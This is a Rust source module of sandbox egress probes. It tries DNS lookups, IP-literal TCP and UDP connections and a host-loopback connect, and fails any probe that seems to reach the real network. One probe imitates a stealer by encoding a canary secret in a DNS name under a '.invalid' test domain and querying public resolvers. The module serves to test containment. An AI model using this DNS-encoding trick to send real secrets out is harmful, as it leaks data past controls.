//! Probe items of the egress group. In a sandbox every outcome is immediate: with no
//! egress nothing routes (ENETUNREACH); with egress every address is local, so an
//! undeclared port refuses at once and the sandbox resolver answers every query.
//! A timeout therefore means packets went somewhere real: it is a FAIL.

use std::io::{ErrorKind, Read, Write};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, TcpStream, UdpSocket};
use std::time::Duration;

use super::params::ProbeParams;
use super::{emit, fail, io_name, pass, read_text};
use crate::catalog::Status;

const WAIT: Duration = Duration::from_millis(1500);

const CLOUDFLARE_V4: Ipv4Addr = Ipv4Addr::new(1, 1, 1, 1);
const GOOGLE_DNS_V4: Ipv4Addr = Ipv4Addr::new(8, 8, 8, 8);
const CLOUDFLARE_V6: Ipv6Addr = Ipv6Addr::new(0x2606, 0x4700, 0x4700, 0, 0, 0, 0, 0x1111);
const GOOGLE_DNS_V6: Ipv6Addr = Ipv6Addr::new(0x2001, 0x4860, 0x4860, 0, 0, 0, 0, 0x8888);

pub fn run_all(p: &ProbeParams) {
    let resolver = resolver();
    let inside = std::fs::read_link("/proc/self/ns/net")
        .map(|l| l.display().to_string())
        .ok();
    if p.process_tier {
        // No namespace: Landlock (TCP connect) and the socket filter (no UDP) are the
        // boundary; the DNS and declared-name items are N/A there (no sandbox resolver).
        ip_literals();
        udp_other();
        return host_loopback(p);
    }
    if inside.is_some() && inside.as_ref() == p.host.namespaces.get("net") {
        // The attacks would work and really reach the network: say so, send nothing.
        for spec in crate::catalog::items_of(crate::catalog::Run::Main) {
            if spec.id.starts_with("egress.") && spec.id != "egress.host_loopback" {
                fail(spec.id, "the sandbox shares the host's network namespace: this would reach the network (not attempted)");
            }
        }
        return host_loopback(p);
    }
    undeclared_name(p, resolver);
    ip_literals();
    dns_exfiltration(p);
    udp_other();
    host_loopback(p);
    declared_name(p, resolver);
}

/// The resolver `/etc/resolv.conf` names inside (the sandbox's fixed address).
pub fn resolver() -> IpAddr {
    read_text("/etc/resolv.conf")
        .and_then(|t| {
            t.lines()
                .find_map(|l| l.strip_prefix("nameserver")?.trim().parse().ok())
        })
        .unwrap_or(IpAddr::V4(Ipv4Addr::new(192, 0, 2, 53)))
}

/// A DNS query for `name` / `qtype` (1 = A, 28 = AAAA).
fn query(name: &str, qtype: u16, id: u16) -> Vec<u8> {
    let mut q = Vec::with_capacity(64);
    q.extend_from_slice(&id.to_be_bytes());
    q.extend_from_slice(&[0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]);
    for label in name.trim_end_matches('.').split('.') {
        q.push(label.len().min(63) as u8);
        q.extend_from_slice(&label.as_bytes()[..label.len().min(63)]);
    }
    q.push(0);
    q.extend_from_slice(&qtype.to_be_bytes());
    q.extend_from_slice(&1u16.to_be_bytes());
    q
}

/// What came back: the rcode and the A/AAAA addresses in the answer section.
#[derive(Debug)]
pub struct Answer {
    rcode: u8,
    pub addrs: Vec<IpAddr>,
}

fn skip_name(b: &[u8], mut i: usize) -> Option<usize> {
    loop {
        let len = *b.get(i)? as usize;
        if len == 0 {
            return Some(i + 1);
        }
        if len & 0xC0 == 0xC0 {
            return Some(i + 2);
        }
        i += 1 + len;
    }
}

fn parse_answer(b: &[u8]) -> Option<Answer> {
    if b.len() < 12 {
        return None;
    }
    let rcode = b[3] & 0x0F;
    let qd = u16::from_be_bytes([b[4], b[5]]);
    let an = u16::from_be_bytes([b[6], b[7]]);
    let mut i = 12;
    for _ in 0..qd {
        i = skip_name(b, i)? + 4;
    }
    let mut addrs = Vec::new();
    for _ in 0..an {
        i = skip_name(b, i)?;
        let rtype = u16::from_be_bytes([*b.get(i)?, *b.get(i + 1)?]);
        let rdlen = u16::from_be_bytes([*b.get(i + 8)?, *b.get(i + 9)?]) as usize;
        let data = b.get(i + 10..i + 10 + rdlen)?;
        match (rtype, rdlen) {
            (1, 4) => addrs.push(IpAddr::V4(Ipv4Addr::new(
                data[0], data[1], data[2], data[3],
            ))),
            (28, 16) => {
                let mut o = [0u8; 16];
                o.copy_from_slice(data);
                addrs.push(IpAddr::V6(Ipv6Addr::from(o)));
            }
            _ => {}
        }
        i += 10 + rdlen;
    }
    Some(Answer { rcode, addrs })
}

/// Ask `server` (port 53) about `name`. `Err` carries what happened instead.
pub fn ask(server: IpAddr, name: &str, qtype: u16) -> Result<Answer, String> {
    let bind: SocketAddr = match server {
        IpAddr::V4(_) => (Ipv4Addr::UNSPECIFIED, 0).into(),
        IpAddr::V6(_) => (Ipv6Addr::UNSPECIFIED, 0).into(),
    };
    let sock = UdpSocket::bind(bind).map_err(|e| format!("socket: {}", io_name(&e)))?;
    sock.set_read_timeout(Some(WAIT)).map_err(|e| io_name(&e))?;
    sock.connect((server, 53)).map_err(|e| io_name(&e))?;
    let id = 0x5b5b;
    sock.send(&query(name, qtype, id))
        .map_err(|e| io_name(&e))?;
    let mut buf = [0u8; 1500];
    match sock.recv(&mut buf) {
        Ok(n) => parse_answer(&buf[..n]).ok_or_else(|| "malformed answer".to_string()),
        Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
            Err("TIMEOUT".to_string())
        }
        Err(e) => Err(io_name(&e)),
    }
}

fn rcode_name(r: u8) -> String {
    match r {
        0 => "NOERROR".into(),
        2 => "SERVFAIL".into(),
        3 => "NXDOMAIN".into(),
        5 => "REFUSED".into(),
        n => format!("rcode {n}"),
    }
}

/// Judge a query that must not resolve: `Ok(detail)` when refused, `Err` when it
/// resolved or the answer may have come from outside. Without declared egress no
/// resolver is reachable at all, so any answer came from outside. With egress, a
/// refusal is only credible if the sandbox resolver recorded it: the check matches
/// each "answered" part (it starts with the name) against the trace.
fn judge_blocked(what: &str, r: Result<Answer, String>, egress: bool) -> Result<String, String> {
    match r {
        Ok(a) if a.addrs.is_empty() && egress => {
            Ok(format!("{what}: answered {}", rcode_name(a.rcode)))
        }
        Ok(a) if a.addrs.is_empty() => Err(format!(
            "{what}: answered {} although no resolver should be reachable",
            rcode_name(a.rcode)
        )),
        Ok(a) => Err(format!("{what} resolved to {:?}", a.addrs)),
        Err(e) if e == "TIMEOUT" => Err(format!(
            "{what}: no answer within {} ms: the query may have left the sandbox",
            WAIT.as_millis()
        )),
        Err(e) => Ok(format!("{what}: {e}")),
    }
}

fn undeclared_name(p: &ProbeParams, resolver: IpAddr) {
    let id = "egress.undeclared_name";
    let random = format!(
        "undeclared-{}.skillsandbox-check.invalid",
        p.survivor_marker
    );
    let mut names = vec![random];
    if !p.declared_names.iter().any(|n| n == "example.com") {
        names.push("example.com".into());
    }
    let mut parts = Vec::new();
    let mut ok = true;
    for n in &names {
        match judge_blocked(
            &format!("{n} @{resolver}"),
            ask(resolver, n, 1),
            p.egress_declared,
        ) {
            Ok(d) => parts.push(d),
            Err(d) => {
                ok = false;
                parts.push(d);
            }
        }
    }
    emit(
        id,
        if ok { Status::Pass } else { Status::Fail },
        parts.join("; "),
    );
}

/// Connect and speak first; `Ok(detail)` when nothing was relayed.
fn tcp_attempt(addr: SocketAddr) -> Result<String, String> {
    let mut s = match TcpStream::connect_timeout(&addr, WAIT) {
        Ok(s) => s,
        Err(e) if matches!(e.kind(), ErrorKind::TimedOut | ErrorKind::WouldBlock) => {
            return Err(format!(
                "{addr}: connect got no answer within {} ms: packets may have left",
                WAIT.as_millis()
            ))
        }
        Err(e) => return Ok(format!("{addr}: {}", io_name(&e))),
    };
    let _ = s.set_read_timeout(Some(Duration::from_secs(3)));
    let _ = s.write_all(
        format!(
            "GET / HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n",
            addr.ip()
        )
        .as_bytes(),
    );
    let mut buf = [0u8; 256];
    match s.read(&mut buf) {
        Ok(0) => Ok(format!(
            "{addr}: accepted by the sandbox and closed unrelayed"
        )),
        Ok(n) => Err(format!("{addr}: connected and received {n} bytes")),
        Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
            Err(format!("{addr}: connection held open with no verdict"))
        }
        Err(e) => Ok(format!(
            "{addr}: accepted by the sandbox and reset ({})",
            io_name(&e)
        )),
    }
}

fn tcp_literal(id: &str, addrs: &[SocketAddr]) {
    let mut parts = Vec::new();
    for a in addrs {
        match tcp_attempt(*a) {
            Ok(d) => parts.push(d),
            Err(d) => return fail(id, d),
        }
    }
    pass(id, parts.join("; "));
}

fn dns_exfiltration(p: &ProbeParams) {
    let id = "egress.dns_exfiltration";
    // What a stealer does: encode the secret in a name and ask a public resolver.
    // One name per family, so the check can match each query to the trace.
    let mut parts = Vec::new();
    let mut ok = true;
    for (server, family) in [
        (IpAddr::V4(GOOGLE_DNS_V4), 4),
        (IpAddr::V6(GOOGLE_DNS_V6), 6),
    ] {
        let name = exfil_name(&p.canary_value, family);
        match judge_blocked(
            &format!("{name} @{server}"),
            ask(server, &name, 1),
            p.egress_declared,
        ) {
            Ok(d) => parts.push(d),
            Err(d) => {
                ok = false;
                parts.push(d);
            }
        }
    }
    emit(
        id,
        if ok { Status::Pass } else { Status::Fail },
        parts.join("; "),
    );
}

/// The name the exfiltration item asks for over IPv`family`.
pub fn exfil_name(secret: &str, family: u8) -> String {
    format!("{secret}.v{family}.exfil.skillsandbox-check.invalid")
}

fn udp_attempt(addr: SocketAddr) -> Result<String, String> {
    let bind: SocketAddr = if addr.is_ipv4() {
        (Ipv4Addr::UNSPECIFIED, 0).into()
    } else {
        (Ipv6Addr::UNSPECIFIED, 0).into()
    };
    let sock = match UdpSocket::bind(bind) {
        Ok(s) => s,
        // No socket, no datagram (the process tier's socket filter refuses UDP).
        Err(e) => return Ok(format!("{addr}: socket: {}", io_name(&e))),
    };
    let _ = sock.set_read_timeout(Some(WAIT));
    if let Err(e) = sock.connect(addr) {
        return Ok(format!("{addr}: {}", io_name(&e)));
    }
    // An NTP client request: 48 bytes, LI=0 VN=4 Mode=3.
    let mut pkt = [0u8; 48];
    pkt[0] = 0x23;
    if let Err(e) = sock.send(&pkt) {
        return Ok(format!("{addr}: {}", io_name(&e)));
    }
    let mut buf = [0u8; 512];
    match sock.recv(&mut buf) {
        Ok(n) => Err(format!("{addr}: {n} bytes came back")),
        Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => Err(format!(
            "{addr}: no verdict within {} ms: the datagram may have left",
            WAIT.as_millis()
        )),
        Err(e) => Ok(format!("{addr}: {}", io_name(&e))),
    }
}

fn udp_other() {
    let id = "egress.udp";
    let mut parts = Vec::new();
    for a in [
        SocketAddr::new(CLOUDFLARE_V4.into(), 123),
        SocketAddr::new(CLOUDFLARE_V6.into(), 443),
    ] {
        match udp_attempt(a) {
            Ok(d) => parts.push(d),
            Err(d) => return fail(id, d),
        }
    }
    pass(id, parts.join("; "));
}

fn host_loopback(p: &ProbeParams) {
    let id = "egress.host_loopback";
    let mut addrs = vec![SocketAddr::new(
        Ipv4Addr::LOCALHOST.into(),
        p.loopback_v4_port,
    )];
    if let Some(port) = p.loopback_v6_port {
        addrs.push(SocketAddr::new(Ipv6Addr::LOCALHOST.into(), port));
    }
    let mut parts = Vec::new();
    for a in addrs {
        match TcpStream::connect_timeout(&a, WAIT) {
            Ok(_) => return fail(id, format!("connected to the host's listener on {a}")),
            Err(e) => parts.push(format!("{a}: {}", io_name(&e))),
        }
    }
    pass(
        id,
        format!(
            "the check listens on the host's loopback; {}",
            parts.join("; ")
        ),
    );
}

fn declared_name(p: &ProbeParams, resolver: IpAddr) {
    let id = "egress.declared_name";
    if !p.egress_declared {
        return emit(id, Status::NotApplicable, "the manifest declares no egress");
    }
    if p.declared_names.is_empty() {
        return emit(
            id,
            Status::NotApplicable,
            "only cidr rules are declared; no name to ask",
        );
    }
    let mut parts = Vec::new();
    for name in p.declared_names.iter().take(3) {
        for (qtype, label) in [(1u16, "A"), (28, "AAAA")] {
            match ask(resolver, name, qtype) {
                Ok(a) if !a.addrs.is_empty() => {
                    if let Some(real) = a
                        .addrs
                        .iter()
                        .find(|x| !in_ranges(**x, &p.synthetic_ranges))
                    {
                        return fail(
                            id,
                            format!(
                                "{name} {label} answered {real}, outside the synthetic ranges {}",
                                p.synthetic_ranges.join(" ")
                            ),
                        );
                    }
                    parts.push(format!(
                        "{name} {label} {}",
                        a.addrs
                            .iter()
                            .map(|x| x.to_string())
                            .collect::<Vec<_>>()
                            .join(",")
                    ))
                }
                Ok(a) => {
                    return fail(
                        id,
                        format!("{name} {label}: {} with no address", rcode_name(a.rcode)),
                    )
                }
                Err(e) => return fail(id, format!("{name} {label}: {e}")),
            }
        }
    }
    pass(
        id,
        format!(
            "synthetic answers from the sandbox resolver: {}",
            parts.join("; ")
        ),
    );
}

/// Whether `addr` lies in one of the CIDR `ranges` ("198.18.0.0/15", "fd5b::/64").
pub fn in_ranges(addr: IpAddr, ranges: &[String]) -> bool {
    ranges.iter().any(|r| {
        let Some((net, len)) = r.split_once('/') else {
            return false;
        };
        let Ok(len) = len.parse::<u32>() else {
            return false;
        };
        match (addr, net.parse::<IpAddr>()) {
            (IpAddr::V4(a), Ok(IpAddr::V4(n))) if len <= 32 => {
                let mask = u32::MAX.checked_shl(32 - len).unwrap_or(0);
                u32::from(a) & mask == u32::from(n) & mask
            }
            (IpAddr::V6(a), Ok(IpAddr::V6(n))) if len <= 128 => {
                let mask = u128::MAX.checked_shl(128 - len).unwrap_or(0);
                u128::from(a) & mask == u128::from(n) & mask
            }
            _ => false,
        }
    })
}

/// Connections to public addresses by literal (no name to resolve), v4 and v6.
fn ip_literals() {
    tcp_literal(
        "egress.ip_literal",
        &[
            SocketAddr::new(CLOUDFLARE_V4.into(), 443),
            SocketAddr::new(CLOUDFLARE_V4.into(), 80),
        ],
    );
    tcp_literal(
        "egress.ipv6_literal",
        &[
            SocketAddr::new(CLOUDFLARE_V6.into(), 443),
            SocketAddr::new(CLOUDFLARE_V6.into(), 80),
        ],
    );
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn range_membership() {
        let r = vec![
            "198.18.0.0/15".to_string(),
            "fd5b:5b5b:5b5b::/64".to_string(),
        ];
        assert!(in_ranges("198.19.255.1".parse().unwrap(), &r));
        assert!(!in_ranges("198.20.0.1".parse().unwrap(), &r));
        assert!(in_ranges("fd5b:5b5b:5b5b::7".parse().unwrap(), &r));
        assert!(!in_ranges("fd5b:5b5b:5b5c::7".parse().unwrap(), &r));
        assert!(!in_ranges(
            "1.1.1.1".parse().unwrap(),
            &["0.0.0.0/x".to_string()]
        ));
        assert!(in_ranges(
            "1.1.1.1".parse().unwrap(),
            &["0.0.0.0/0".to_string()]
        ));
    }

    #[test]
    fn dns_query_and_answer_round_trip() {
        let q = query("a.example", 1, 7);
        assert_eq!(&q[..2], &[0, 7]);
        // A response: the query with QR set, one A answer via a name pointer.
        let mut r = q.clone();
        r[2] |= 0x80;
        r[7] = 1;
        r.extend_from_slice(&[0xC0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 198, 18, 0, 3]);
        let a = parse_answer(&r).unwrap();
        assert_eq!(a.rcode, 0);
        assert_eq!(a.addrs, vec!["198.18.0.3".parse::<IpAddr>().unwrap()]);
        let mut nx = q;
        nx[3] = 3;
        assert_eq!(parse_answer(&nx).unwrap().rcode, 3);
        assert!(parse_answer(&[1, 2]).is_none());
    }
}
